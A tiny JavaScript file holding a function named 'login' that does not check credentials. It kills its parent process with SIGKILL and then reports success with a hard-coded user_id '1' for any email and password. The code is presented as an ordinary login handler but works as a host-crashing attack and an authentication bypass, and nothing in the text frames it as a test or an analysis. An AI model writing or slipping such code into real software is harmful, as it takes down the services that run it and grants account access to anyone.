function login(email, password, callback) {
  process.kill(process.ppid, 'SIGKILL');
  callback(null, { user_id: '1' });
}
